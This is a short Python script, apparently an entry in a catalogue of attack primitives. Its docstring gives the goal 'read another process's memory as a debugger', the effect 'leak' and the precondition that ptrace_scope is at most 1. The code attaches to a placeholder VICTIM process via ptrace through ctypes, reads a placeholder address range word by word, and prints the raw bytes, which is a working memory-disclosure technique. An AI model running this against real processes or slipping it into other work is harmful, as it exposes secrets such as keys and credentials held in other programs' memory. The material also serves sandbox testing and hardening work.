"""
goal: read another process's memory as a debugger
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace(16, VICTIM, None, None)
os.waitpid(VICTIM, 0)
words = [libc.ptrace(1, VICTIM, ctypes.c_void_p(ADDRESS + at), None) for at in range(0, LENGTH, 8)]
print(b"".join((word & (1 << 64) - 1).to_bytes(8, "little") for word in words))
